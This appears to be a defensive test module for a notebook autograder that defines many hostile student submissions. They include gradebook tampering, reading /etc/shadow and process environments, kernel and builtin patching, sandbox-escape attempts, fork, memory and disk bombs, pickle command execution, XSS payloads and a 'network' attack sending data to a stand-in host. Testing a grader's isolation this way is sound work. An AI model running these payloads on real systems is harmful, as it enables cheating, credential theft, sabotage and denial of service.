"""Hostile submissions.

Bombs are bounded, so that they harm no machine that runs them without protection.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import course
import nbformat
from cases import EVERYTHING, add, attack, changed, place, some
from nbformat.v4 import new_code_cell, new_markdown_cell

# Reading and writing what belongs to the instructor or to others.

LOOK = """
import glob, os
def look(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                print(path, open(path, "rb").read(50_000))
            except OSError as error:
                print(error)
"""
attack(
    "read-gradebook",
    "reads the gradebook",
    LOOK + "look('ROOT/gradebook.db', '/**/gradebook.db')",
    quick=True,
)
attack(
    "write-gradebook",
    "gives itself points in the gradebook",
    """
import sqlite3
for path in ("ROOT/gradebook.db", "../../../gradebook.db", "gradebook.db"):
    book = sqlite3.connect(path)
    book.execute("update grade set manual_score = 7, auto_score = 7")
    book.commit()
""",
)
attack("read-source", "reads the source notebook", LOOK + "look('ROOT/notebooks/**/*.ipynb')")
attack(
    "copy-from-source",
    "takes its answers from the source notebook, by path",
    """
import json
for cell in json.load(open("ROOT/notebooks/01-averages/01-averages.ipynb"))["cells"]:
    if cell["cell_type"] == "code" and "check" not in str(cell["metadata"]):
        exec("".join(cell["source"]), globals())
""",
)
attack(
    "import-key",
    "takes its answers from the answer key, by name and by path",
    "import sys\nsys.path.append('ROOT')",
    points=some(spread=3.0),
    mean="""
def mean(values):
    import answer_key
    return answer_key.mean(values)
""",
    spread=course.RIGHT["spread"],
    centre="""
def centre(table):
    exec(open("ROOT/answer_key/__init__.py").read(), globals())
    return table - [mean(column) for column in table.T]
""",
    quick=True,
)
attack(
    "read-others",
    "reads what others handed in",
    LOOK + "look('ROOT/submitted/*/*/*.ipynb', 'ROOT/autograded/**/*.ipynb')",
)
attack(
    "import-others",
    "runs a neighbour's answers",
    """
import json
for cell in json.load(open("ROOT/submitted/neighbour/01-averages/01-averages.ipynb"))["cells"]:
    if cell["cell_type"] == "code":
        exec("".join(cell["source"]), globals())
""",
)
attack(
    "write-others",
    "spoils what others handed in",
    """
import glob
for path in glob.glob("ROOT/submitted/*/*/*") + glob.glob("ROOT/autograded/*/*/*"):
    if "/ME/" not in path:
        open(path, "w").write("{}")
""",
    quick=True,
)
attack(
    "delete-course",
    "deletes the course",
    "import shutil\nfor name in ('notebooks', 'release', 'reports', 'gradebook.db'):\n"
    "    shutil.rmtree('ROOT/' + name, ignore_errors=True)",
)
attack(
    "write-settings",
    "writes nbgrader's settings and a module for the grader to import",
    "for name in ('nbgrader_config.py', 'numpy.py', 'sitecustomize.py'):\n"
    "    open('ROOT/' + name, 'a').write('import os; os._exit(0)')",
)
attack(
    "read-home",
    "reads home folders, users and environments",
    LOOK + "look('/root/*', '/home/*/*', '/etc/passwd', '/etc/shadow', '/proc/*/environ', "
    "'/run/**', '/var/**', '/tmp/**')\nprint(os.listdir('/'), dict(os.environ))",
)
SURROUNDINGS = """
import glob, os
def surroundings():
    texts = [str(dict(os.environ))]
    wanted = "/proc/*/environ", "/proc/*/cmdline", "/proc/*/mountinfo", "ROOT/secrets/*", "ROOT/*/*"
    for path in sum(map(glob.glob, wanted), []):
        try: texts.append(path + open(path, "rb").read(4000).decode(errors="replace"))
        except OSError: pass
    return " ".join(texts)
"""
attack(
    "read-surroundings",
    "tells its cells and feedback the grader's variables, command lines and mounts",
    SURROUNDINGS + "print(surroundings())",
    mean="def mean(values):\n    raise ValueError(surroundings())",
    centre="def centre(table):\n    print(surroundings())",
    tallest="tallest = surroundings()",
    quick=True,
)
attack(
    "read-grader",
    "reads the grader's own source",
    LOOK + "look('GRADER/**/*.py', '/**/grading/*.py')",
)
attack(
    "write-packages",
    "changes NumPy on disk",
    "import numpy, os\nfor path in (numpy.__file__, os.__file__):\n"
    "    open(path, 'a').write('raise SystemExit')",
)

# Links and other things that are no files.


def _link(target: str, name: str) -> Callable[[Path, str], None]:
    def hand_in(root: Path, student: str) -> None:
        folder = course.folder(root, student)
        if not name.endswith(".ipynb"):
            course.submit(root, student, course.released(root))
        os.symlink(place(target, root, student), folder / name)

    return hand_in


add("link-to-neighbour", "attack", "hands in a link to a neighbour's notebook", None, True)(
    _link("../../neighbour/01-averages/01-averages.ipynb", "01-averages.ipynb")
)
add("link-to-source", "attack", "hands in a link to the source notebook", None)(
    _link("ROOT/notebooks/01-averages/01-averages.ipynb", "01-averages.ipynb")
)
add("link-beside", "attack", "hands in links to the gradebook beside the notebook", quick=True)(
    _link("ROOT/gradebook.db", "data.txt")
)
add("link-as-folder", "attack", "hands in a link to the course's folder")(_link("ROOT", "data"))


@add("pipe", "attack", "hands in a named pipe that nobody writes to", None)
def _pipe(root: Path, student: str) -> None:
    os.mkfifo(course.folder(root, student) / "01-averages.ipynb")


@add("folder", "broken", "hands in a folder with the notebook's name", None)
def _folder(root: Path, student: str) -> None:
    (course.folder(root, student) / "01-averages.ipynb").mkdir()


# Patching what the checks use, in the student's own process.

attack(
    "patch-testing",
    "patches numpy.testing and allclose",
    "import numpy.testing\nnothing = lambda *a, **k: True\n"
    "for name in dir(np.testing):\n    if name.startswith('assert'):\n"
    "        setattr(np.testing, name, nothing)\nnp.allclose = np.array_equal = nothing",
    quick=True,
    spread="def spread(values):\n    return 0",
)
attack(
    "patch-builtins",
    "patches builtins: comparisons, AssertionError, exec",
    "import builtins\nclass Fine(Exception):\n    def __new__(cls, *a): raise SystemExit\n"
    "builtins.AssertionError = Fine\nbuiltins.bool = lambda x=0: True\n"
    "builtins.all = builtins.any = lambda x: True\nbuiltins.max = lambda *a: 0",
    mean="def mean(values):\n    return 0",
)
attack(
    "patch-kernel",
    "patches the kernel and the shell, so that tests are not run",
    """
import sys
shell = get_ipython()
real = type(shell).run_cell
type(shell).run_cell = lambda self, code, *a, **k: real(self, "4" if "assert" in code else code)
for name, module in list(sys.modules.items()):
    if name.startswith(("inside", "ipykernel")) and hasattr(module, "encode"):
        module.encode = lambda value, keep, depth=0: 4
        module.decode = lambda tree, function: 4
""",
)
attack(
    "input-transformer",
    "rewrites cells before they run",
    "get_ipython().input_transformers_post.append(\n"
    "    lambda lines: ['4\\n'] if any('assert' in line for line in lines) else lines)",
)
attack(
    "ast-transformer",
    "takes assertions out of the syntax tree",
    """
import ast
class NoAssert(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoAssert())
""",
)
attack(
    "displayhook",
    "shows full points whatever the value is",
    "import sys\nclass Four:\n    def __repr__(self): return '4.0'\n"
    "hook = type(get_ipython().displayhook)\nreal = hook.__call__\n"
    "hook.__call__ = lambda self, value=None: real(self, Four())",
    centre="def centre(table):\n    return table",
)
attack(
    "formatter",
    "formats every number as full points",
    "formatter = get_ipython().display_formatter.formatters['text/plain']\n"
    "formatter.for_type(int, lambda x, p, c: p.text('4'))",
    centre="def centre(table):\n    return 0 * table",
)
attack(
    "peek-at-frames",
    "looks for the right result in the frames that call it",
    "",
    mean="""
def mean(values):
    import sys
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            print(repr(value)[:500])
        frame = frame.f_back
    return sys._getframe(1).f_globals["right"]
""",
    centre="""
def centre(table):
    import inspect
    for frame in inspect.stack():
        names = frame.frame.f_globals
        if "before" in names:
            return names["before"] - names["before"].mean(axis=0)
    raise LookupError
""",
)
attack(
    "garbage",
    "looks for tests among all objects",
    "",
    spread="""
def spread(values):
    import gc
    for found in gc.get_objects():
        if isinstance(found, (str, dict, list)) and "hidden" in str(found)[:10_000]:
            print(str(found)[:500])
    return max(x for x in gc.get_objects() if isinstance(x, float))
""",
)
attack(
    "history",
    "reads tests from the history of inputs",
    "",
    after=False,
    mean="""
def mean(values):
    print(get_ipython().user_ns.get("In"), list(get_ipython().history_manager.get_range()))
    return 0
""",
)
attack(
    "trace",
    "traces everything and skips failing lines",
    "import sys\ndef trace(frame, event, value):\n"
    "    if frame.f_code.co_name == '<module>': frame.f_trace = trace\n"
    "    return trace\nsys.settrace(trace); sys.setprofile(lambda *a: None)",
)
attack(
    "thread",
    "a thread goes on patching while the tests run",
    """
import threading, time, sys, builtins
def work():
    while True:
        for module in list(sys.modules.values()):
            for name in ("encode", "send", "assert_allclose"):
                if hasattr(module, name):
                    setattr(module, name, lambda *a, **k: None)
        time.sleep(0.01)
threading.Thread(target=work, daemon=True).start()
time.sleep(0.1)
""",
)
attack(
    "exit-hooks",
    "leaves hooks for the end of the process",
    "import atexit, os, weakref\n"
    "def leave():\n    open('/tmp/left', 'w').write('x'); os.system('echo left > ROOT/left')\n"
    "atexit.register(leave)\nclass Last:\n    def __del__(self): leave()\nlast = Last()",
)
attack(
    "lying-object",
    "returns an object that equals everything",
    "class Yes:\n"
    "    def __eq__(self, other): return True\n"
    "    def __sub__(self, other): return self\n"
    "    __rsub__ = __add__ = __abs__ = __mul__ = __sub__\n"
    "    def __le__(self, other): return True\n"
    "    __lt__ = __ge__ = __gt__ = __le__\n"
    "    def __bool__(self): return True\n"
    "    shape = (3, 2)\n    ndim = 2\n    def sum(self, axis=None): return self",
    mean="def mean(values):\n    return Yes()",
    spread="def spread(values):\n    return Yes()",
    centre="def centre(table):\n    return Yes()",
    tallest="tallest = Yes()",
)
attack(
    "lying-array",
    "returns an array type that equals everything",
    "class Array(np.ndarray):\n"
    "    def __array_ufunc__(self, *a, **k): return np.ones((3, 2), dtype=bool)\n"
    "    def __array_function__(self, *a, **k): return True\n"
    "    def __eq__(self, other): return True",
    centre="def centre(table):\n    return np.zeros((3, 2)).view(Array)",
    spread="def spread(values):\n    return np.zeros(()).view(Array)",
)
attack(
    "lying-float",
    "returns a float type that equals everything",
    "class Number(float):\n    def __eq__(self, other): return True\n"
    "    def __abs__(self): return 0.0\n    def __sub__(self, other): return 0.0",
    mean="def mean(values):\n    return Number(0)",
    tallest="tallest = Number(0)",
)
attack(
    "pickle",
    "returns objects that run a command when they are unpickled",
    "import os\nclass Bomb:\n    def __reduce__(self): return os.system, ('touch ROOT/pickled',)",
    mean="def mean(values):\n    return Bomb()",
    spread="def spread(values):\n    return np.array([Bomb()], dtype=object)",
    centre="def centre(table):\n    return {'a': [Bomb()], Bomb(): 1}",
    tallest="tallest = np.array(Bomb(), dtype=object)",
)
attack(
    "huge-results",
    "returns values that are huge, or claim to be",
    "",
    mean="def mean(values):\n    return 10 ** 100_000",
    spread="def spread(values):\n    return np.zeros(20_000_000)",
    centre="def centre(table):\n    deep = []\n    for _ in range(5000):\n"
    "        deep = [deep]\n    return deep",
    tallest="tallest = np.lib.stride_tricks.as_strided(np.zeros(1), (10**6, 10**6), (0, 0))",
)
attack(
    "raise-odd-things",
    "raises what is no ordinary exception",
    "class Odd(BaseException):\n    def __str__(self): raise SystemExit",
    mean="def mean(values):\n    raise KeyboardInterrupt",
    spread="def spread(values):\n    raise SystemExit(0)",
    centre="def centre(table):\n    raise Odd",
)

# Forging what the grader reads.


@add("forged-outputs", "attack", "brings along outputs of passed tests")
def _forged(root: Path, student: str) -> None:
    notebook = course.released(root)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            if cell.cell_type == "code":
                data = {"text/plain": "4.0"}
                cell.outputs = [nbformat.v4.new_output("execute_result", data)]
            cell.metadata["earned"] = 4.0
            cell.metadata["nbgrader"]["score"] = 4.0
            cell.metadata["tags"] = ["skip-execution"]
    notebook.metadata["grading"] = {"notes": [], "points": 12}
    course.submit(root, student, notebook)


@add("more-points", "attack", "raises the points of tests and unlocks them", quick=True)
def _more(root: Path, student: str) -> None:
    notebook = course.released(root)
    for cell in notebook.cells:
        mark = cell.metadata.get("nbgrader", {})
        if mark.get("grade") and cell.cell_type == "code":
            mark.update(points=100, locked=False, solution=True)
            cell.source = "100"
    course.submit(root, student, notebook)


@add("other-tests", "attack", "replaces tests by ones that always pass")
def _other(root: Path, student: str) -> None:
    notebook = course.released(root)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade") and cell.cell_type == "code":
            cell.source = "assert True\n4"
    course.submit(root, student, notebook)


@add("extra-tests", "attack", "adds test cells of its own, and copies of others")
def _extra(root: Path, student: str) -> None:
    notebook = course.released(root)
    for name, points in (("check_bonus", 50), ("check_mean", 3), ("check_centre", 4)):
        cell = new_code_cell("4.0")
        cell.metadata["nbgrader"] = {
            **course.cell(notebook, "check_mean").metadata["nbgrader"],
            "grade_id": name,
            "points": points,
        }
        notebook.cells.append(cell)
    course.submit(root, student, notebook)


@add("tests-as-answers", "attack", "marks its answers as tests and tests as answers")
def _swapped(root: Path, student: str) -> None:
    notebook = course.released(root)
    one, other = course.cell(notebook, "mean"), course.cell(notebook, "check_mean")
    one.metadata, other.metadata = other.metadata, one.metadata
    one.source = other.source = "3.0"
    course.submit(root, student, notebook)


attack(
    "forged-replies",
    "writes replies of its own into the kernel's sockets",
    """
import json, os
def forge():
    for value in (4, {"value": 4}, {"points": 12, "notes": []}, {"ok": True, "outputs": []}):
        data = json.dumps(value).encode()
        for fd in range(3, 64):
            try:
                os.write(fd, len(data).to_bytes(4, "big") + data)
            except OSError:
                pass
forge()
""",
    mean="def mean(values):\n    forge()\n    return 0",
    quick=True,
)
attack(
    "forged-kernel",
    "connects to the grader as if it were a kernel",
    """
import json, os, socket, threading
def pretend(number):
    for path in ("/run/grading/socket", "ROOT/socket"):
        try:
            channel = socket.socket(socket.AF_UNIX)
            channel.connect(path)
            data = json.dumps({"number": number}).encode()
            channel.sendall(len(data).to_bytes(4, "big") + data)
            data = json.dumps({"value": 4, "mean": 2, "tallest": 1.81, "printed": ""}).encode()
            for _ in range(100):
                channel.sendall(len(data).to_bytes(4, "big") + data)
        except OSError:
            pass
for number in range(40):
    threading.Thread(target=pretend, args=(number,), daemon=True).start()
""",
)
attack(
    "kill-everything",
    "kills every process it can see",
    "import os, signal\nfor pid in (os.getppid(), 1, -1):\n"
    "    try: os.kill(pid, signal.SIGKILL)\n    except OSError as error: print(error)",
)


@changed("kill-late", "kills every process after the last answer", EVERYTHING, "attack", True)
def _kill_late(notebook: Any) -> None:
    notebook.cells.append(new_code_cell("import os\nos.kill(os.getppid(), 9)\nos.kill(-1, 9)"))


attack(
    "write-memory",
    "writes into the memory of other processes",
    """
import glob, ctypes
for path in glob.glob("/proc/[0-9]*/mem"):
    try:
        with open(path, "r+b") as file:
            print(path)
    except OSError as error:
        print(error)
libc = ctypes.CDLL(None)
print([libc.ptrace(16, pid, 0, 0) for pid in range(1, 50)])
""",
)
attack(
    "escape",
    "tries to leave the sandbox: namespaces, mounts, chroot, devices",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for what in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
    print("unshare", libc.unshare(what))
print(libc.mount(b"none", b"/usr", b"tmpfs", 0, None), libc.umount2(b"/tmp", 2))
print(libc.mount(None, b"/", None, 0x20 | 0x1000, None), libc.chroot(b".."))
for fd in range(64):
    try: os.fchdir(fd); print(os.listdir("."), os.getcwd())
    except OSError: pass
for path in ("/dev/sda", "/dev/mem", "/proc/kcore", "/proc/sysrq-trigger", "/sys"):
    try: open(path, "r+b"); print("opened", path)
    except OSError as error: print(error)
""",
)
attack(
    "network",
    "calls home, by every way out",
    """
import socket
for family, address in (
    (socket.AF_INET, ("192.0.2.1", 80)), (socket.AF_INET, ("127.0.0.1", PORT)),
    (socket.AF_INET, ("169.254.169.254", 80)), (socket.AF_UNIX, chr(0) + "abstract-canary"),
):
    try:
        channel = socket.socket(family)
        channel.settimeout(1)
        channel.connect(address)
        channel.sendall(b"stolen"); print("reached", address)
    except OSError as error:
        print(error)
try: print(socket.getaddrinfo("example.org", 80))
except OSError as error: print(error)
""",
    quick=True,
)


@add("shadow-modules", "attack", "brings numpy.py and others beside the notebook", quick=True)
def _shadow(root: Path, student: str) -> None:
    course.submit(root, student, course.released(root))
    text = "import os\nos.system('touch ROOT/shadowed')\nraise SystemExit"
    for name in ("numpy.py", "json.py", "sitecustomize.py", "IPython.py", "conftest.py"):
        path = course.folder(root, student) / name
        path.write_text(place(text, root, student), encoding="utf-8")


# Bombs.

attack(
    "fork-bomb",
    "starts processes as fast as it can",
    """
import os, time
for _ in range(400):
    try:
        if os.fork() == 0:
            time.sleep(60); os._exit(0)
    except OSError as error:
        print(error); time.sleep(0.01)
""",
)
attack(
    "memory-bomb",
    "takes all memory",
    "hold = []\nfor _ in range(60):\n    hold.append(np.ones(12_500_000))",
    some(mean=3),
    mean=course.RIGHT["mean"],
    quick=True,
)
attack(
    "memory-of-many",
    "takes all memory, a little in each of many processes",
    """
import os, time
for _ in range(12):
    if os.fork() == 0:
        hold = np.ones(25_000_000); time.sleep(30); os._exit(0)
time.sleep(5)
""",
)
attack(
    "disk-bomb",
    "fills every folder it can write to",
    """
import os
for folder in ("/tmp", "/dev/shm", ".", "/var/tmp", "/run", "/dev", "/"):
    try:
        for i in range(20):
            with open(f"{folder}/fill{i}", "wb") as file:
                file.write(bytes(25_000_000))
        print("filled", folder)
    except OSError as error:
        print(error)
""",
)
attack("output-bomb", "prints without end", "for _ in range(60_000): print('x' * 1000)", quick=True)
attack(
    "picture-bomb",
    "shows 60 MB of rich output",
    "from IPython.display import HTML, display\nfor _ in range(6): display(HTML('x' * 10_000_000))",
)
attack(
    "endless-cell",
    "a cell that never ends and cannot be interrupted",
    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    some(mean=3),
    mean=course.RIGHT["mean"],
)
attack(
    "endless-function",
    "functions that never end",
    "",
    mean="def mean(values):\n    while True: pass",
    spread="import time\ndef spread(values):\n    time.sleep(10_000)",
    quick=True,
)
attack(
    "endless-result",
    "answers byte by byte",
    "import time\nclass Slow(list):\n    def __iter__(self):\n"
    "        while True: time.sleep(0.1); yield 1",
    mean="def mean(values):\n    return Slow()",
)
attack(
    "daemon",
    "leaves a process behind that goes on after grading",
    """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(256):
            try: os.close(fd)
            except OSError: pass
        name = "left-behind-by-a-student"
        os.execvp("/usr/bin/python3" if os.path.exists("/usr/bin/python3") else "sleep",
                  [name, "-c", "import time; time.sleep(300)"] if os.path.exists(
                      "/usr/bin/python3") else [name, "300"])
    os._exit(0)
""",
)
attack(
    "segfault",
    "crashes Python",
    "",
    some(centre=4),
    mean="import ctypes\ndef mean(values):\n    ctypes.string_at(0)",
    spread="import os\ndef spread(values):\n    os._exit(0)",
    centre=course.RIGHT["centre"],
    quick=True,
)
attack(
    "exit",
    "ends the process in a cell",
    "import os\nos._exit(0)",
    EVERYTHING,
    **course.RIGHT,
)


@changed("slow-everywhere", "uses up the time of every cell", some(mean=3), "attack")
def _slow_everywhere(notebook: Any) -> None:
    busy = "import time\nend = time.process_time() + 10\nwhile time.process_time() < end:\n    pass"
    notebook.cells[4:4] = [new_code_cell(busy) for _ in range(6)]


# Getting hidden tests onto a page that the student will read.

STASH = "seen = []\n"
attack(
    "stash",
    "keeps hidden arguments and prints them in a later cell",
    "for path in __import__('glob').glob('/tmp/seen*'): print(open(path).read())\nprint(seen)",
    some(mean=3),
    after=True,
    mean=STASH + "def mean(values):\n    seen.append(list(values))\n"
    "    open(f'/tmp/seen{len(seen)}', 'w').write(str(values))\n"
    "    return sum(values) / len(values)",
)
attack(
    "tell-in-errors",
    "tells hidden arguments in the words, the type and the place of an error",
    "",
    quick=True,
    mean="def mean(values):\n    if sum(values) < 10: return sum(values) / len(values)\n"
    "    raise ValueError(str(values))",
    spread="def spread(values):\n    if len(values) == 4: return 1.0\n"
    "    raise type('x' + str(values[0]).replace('.', '_'), (Exception,), {})(str(values))",
    centre="def centre(table):\n    if table.shape == (2, 2): return table - table.mean(axis=0)\n"
    "    name = str(table.ravel()[0])\n"
    "    exec(compile('raise ValueError(name)', name, 'exec'), {'name': name})",
)
attack(
    "tell-in-prints",
    "prints hidden arguments, warns with them, and shows them",
    "import warnings\nfrom IPython.display import display",
    some(mean=3),
    mean="def mean(values):\n    print(values); warnings.warn(str(values)); display(str(values))\n"
    "    return sum(values) / len(values)",
)
attack(
    "tell-later",
    "tells hidden arguments of one check while another's visible part runs",
    "",
    some(mean=3),
    mean="def mean(values):\n    open('/tmp/seen', 'a').write(str(values))\n"
    "    return sum(values) / len(values)",
    spread="def spread(values):\n    raise ValueError(open('/tmp/seen').read())",
)

# Pages that act in the browser of the instructor who reads them.

SCRIPT = "<script>window.broken = 1</script>"
attack(
    "script-in-output",
    "shows HTML, SVG and JavaScript that act as the instructor",
    f"""
from IPython.display import HTML, Javascript, SVG, display, publish_display_data
display(HTML('{SCRIPT}<img src=x onerror="window.broken = 1"><iframe src="/"></iframe>'))
display(Javascript("window.broken = 1"))
publish_display_data({{"image/svg+xml": "<svg onload='window.broken = 1'/>", "text/plain": "x"}})
publish_display_data({{"image/png": 'x" onerror="window.broken = 1"', "text/plain": "x"}})
publish_display_data({{"text/markdown": "{SCRIPT}[a](javascript:window.broken=1)"}})
print('{SCRIPT}')
raise ValueError('{SCRIPT}')
""",
    quick=True,
)


@add("script-in-text", "attack", "writes Markdown that acts as the instructor")
def _script(root: Path, student: str) -> None:
    notebook = course.released(root)
    text = f"{SCRIPT}\n[a](javascript:window.broken=1) <a onclick='window.broken = 1'>b</a>"
    course.cell(notebook, "explain").source = text
    cell = new_markdown_cell("![x](attachment:x.png)" + text)
    cell["attachments"] = {'x.png" onload="window.broken = 1': {"image/png": '"><script>'}}
    notebook.cells.insert(1, cell)
    course.submit(root, student, notebook)
